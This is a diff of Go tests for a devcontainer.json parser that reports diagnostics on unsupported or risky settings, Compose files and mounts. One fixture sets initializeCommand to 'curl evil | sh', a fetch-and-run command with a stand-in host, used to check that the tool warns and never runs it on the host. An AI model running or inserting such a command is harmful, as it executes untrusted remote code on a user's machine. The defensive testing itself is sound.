@@ -82,15 +82,18 @@ func TestRealWorld(t *testing.T) {
 				t.Errorf("config = %+v\nwant     %+v", got, want)
 			}
 		}},
-		{"node-typescript", []string{"SK208", "SK208", "SK213"}, func(t *testing.T, root string, c *Config, l diag.List) {
+		{"node-typescript", []string{"SK208", "SK213"}, func(t *testing.T, root string, c *Config, l diag.List) {
 			if c.PostCreate != "npm ci --no-audit" || c.User != "node" || len(c.Mounts) != 0 {
 				t.Errorf("config = %+v", *c)
 			}
 			if v, ok := c.Env["NPM_TOKEN"]; !ok || v != "" {
 				t.Errorf("NPM_TOKEN = %q, %v; want the empty expansion (Fuse strips the key)", v, ok)
 			}
-			if !strings.Contains(l[1].Message, "volume mount") || l[1].Line != 15 {
-				t.Errorf("volume warning = %s", l[1])
+			if !strings.Contains(l[0].Message, "volume mount") || l[0].Line != 15 {
+				t.Errorf("volume warning = %s", l[0])
+			}
+			if len(c.Features) == 0 {
+				t.Errorf("features not recorded: %+v", *c)
 			}
 		}},
 		{"python", []string{"SK204"}, func(t *testing.T, root string, c *Config, l diag.List) {
@@ -105,7 +108,7 @@ func TestRealWorld(t *testing.T) {
 				t.Errorf("position = %d:%d, want 16:11", l[0].Line, l[0].Column)
 			}
 		}},
-		{"rust", []string{"SK208", "SK204", "SK208", "SK208"}, func(t *testing.T, root string, c *Config, l diag.List) {
+		{"rust", []string{"SK208", "SK204", "SK208"}, func(t *testing.T, root string, c *Config, l diag.List) {
 			want := []string{"type=bind,source=" + root + "/.devcontainer,target=/opt/fixtures,readonly"}
 			if !slices.Equal(c.Mounts, want) {
 				t.Errorf("mounts = %q, want %q (consistency dropped, volume ignored)", c.Mounts, want)
@@ -129,9 +132,9 @@ func TestRealWorld(t *testing.T) {
 				t.Errorf("runArgs warning does not list --env-file: %s", l[0])
 			}
 		}},
-		{"compose", []string{"SK206"}, func(t *testing.T, root string, c *Config, l diag.List) {
-			if l[0].Line != 5 || l[0].Hint == "" {
-				t.Errorf("compose diagnostic = %s", l[0])
+		{"compose", []string{}, func(t *testing.T, root string, c *Config, l diag.List) {
+			if c.Compose == nil || !slices.Equal(c.Compose.Files, []string{".devcontainer/docker-compose.yml"}) || c.Compose.Service != "app" || c.Compose.RunServices != nil {
+				t.Errorf("compose = %+v", c.Compose)
 			}
 		}},
 		{"legacy-dockerfile", []string{"SK203"}, func(t *testing.T, root string, c *Config, l diag.List) {
@@ -275,7 +278,9 @@ func TestImageXorBuild(t *testing.T) {
 		{name: "file outside workspace", file: "/elsewhere/devcontainer.json", src: `{"build": {"dockerfile": "Dockerfile"}}`, codes: []string{"SK210", "SK210"}},
 		{name: "build target", src: `{"build": {"dockerfile": "Dockerfile", "target": "dev"}}`, codes: []string{"SK208"}, dockerfile: ".devcontainer/Dockerfile", context: ".devcontainer"},
 		{name: "build twice key", src: `{"build": {"dockerfile": "A", "dockerfile": "B"}}`, codes: []string{"SK209"}},
-		{name: "compose", src: `{"dockerComposeFile": "docker-compose.yml", "service": "app"}`, codes: []string{"SK206"}},
+		{name: "compose", src: `{"dockerComposeFile": "docker-compose.yml", "service": "app"}`},
+		{name: "compose without service", src: `{"dockerComposeFile": "docker-compose.yml"}`, codes: []string{"SK206"}},
+		{name: "compose outside", src: `{"dockerComposeFile": "../../x.yml", "service": "app"}`, codes: []string{"SK210", "SK206"}},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -640,8 +645,8 @@ func TestUnsupportedWarned(t *testing.T) {
 		"features": {"ghcr.io/devcontainers/features/node:1": {}},
 		"initializeCommand": "curl evil | sh", "onCreateCommand": "a", "updateContentCommand": "b",
 		"postStartCommand": "c", "postAttachCommand": "d"}`)
-	only(t, list, "SK208", "SK208", "SK208", "SK208", "SK208", "SK208")
-	if !strings.Contains(list[1].Hint, "never runs a repository's command on the host") {
+	only(t, list, "SK208", "SK208", "SK208", "SK208", "SK208")
+	if !strings.Contains(list[0].Hint, "never runs a repository's command on the host") {
 		t.Errorf("initializeCommand hint = %q", list[1].Hint)
 	}
 }
